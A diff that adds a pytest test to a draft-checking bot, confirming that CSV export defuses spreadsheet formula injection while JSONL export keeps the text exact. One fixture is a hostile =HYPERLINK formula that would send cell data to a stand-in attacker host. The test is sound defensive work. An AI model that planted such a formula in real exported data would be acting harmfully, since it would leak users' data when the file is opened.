@@ -128,3 +128,24 @@ def test_hash_only_storage(tmp_path):
     result = Checker(settings, store).check(PREMIUM, log=True)
     row = store.get_check(result.check_id)
     assert row["draft_text"] is None and row["label"] == "inside-out" and len(row["draft_hash"]) == 64
+
+
+def test_csv_export_defuses_formulas_and_json_lines_stay_exact(tmp_path):
+    """A draft a spreadsheet would run (=HYPERLINK sends data away) is exported as text: a leading single quote on
+    cells that start with =, +, -, @, tab or CR, in CSV only."""
+    from bot.checker import Checker
+
+    db = tmp_path / "f.db"
+    store = Store(db)
+    checker = Checker(load_settings(env={}, db_path=str(db)), store)
+    drafts = ['=HYPERLINK("http://evil.example/?d="&A1,"Premium Plus")', "+1 upsell Premium Plus", "-2 churn plan",
+              "@SUM(A1:A9) upsell", "\tlaunch Premium Plus", "\rlaunch Premium Plus", PREMIUM, "a = b, not a formula"]
+    for draft in drafts:
+        checker.check(draft, log=True)
+    assert cli("export", "--format", "csv", "--with-text", "--output", str(tmp_path / "x.csv"), db=db).returncode == 0
+    with open(tmp_path / "x.csv", newline="", encoding="utf-8") as f:  # as a spreadsheet reads it: CR kept
+        rows = list(csv.DictReader(f))
+    assert [r["text"] for r in rows] == ["'" + d for d in drafts[:6]] + drafts[6:]
+    assert all(r["score"].isdigit() for r in rows)  # numbers are not touched
+    lines = [json.loads(x) for x in cli("export", "--format", "jsonl", "--with-text", db=db).stdout.splitlines()]
+    assert [r["text"] for r in lines] == drafts
